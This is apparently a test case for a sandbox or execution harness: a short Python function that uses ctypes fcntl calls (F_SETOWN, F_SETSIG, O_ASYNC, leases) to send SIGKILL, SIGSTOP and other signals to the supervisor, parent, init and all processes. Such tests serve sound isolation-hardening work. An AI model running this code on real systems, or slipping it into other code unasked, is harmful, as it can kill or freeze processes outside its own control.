# attack: names other processes as those who get the signals of its descriptors
# verdict: ok|protocol|crashed
import os
import sys


def f(x):
    ctypes = sys.modules.get("ctypes")
    if ctypes is None:
        return x
    control = ctypes.CDLL(None).fcntl
    for target in (int("@PID@"), -int("@PID@"), os.getppid(), 1, -1):
        for number in (0, 1, 2, 3):
            for signal in (9, 19, 10):
                control(number, 10, signal)  # F_SETSIG
                control(number, 8, target)  # F_SETOWN
                control(number, 4, 0o20000)  # F_SETFL, O_ASYNC
                control(number, 1024, 0)  # F_SETLEASE
    return x
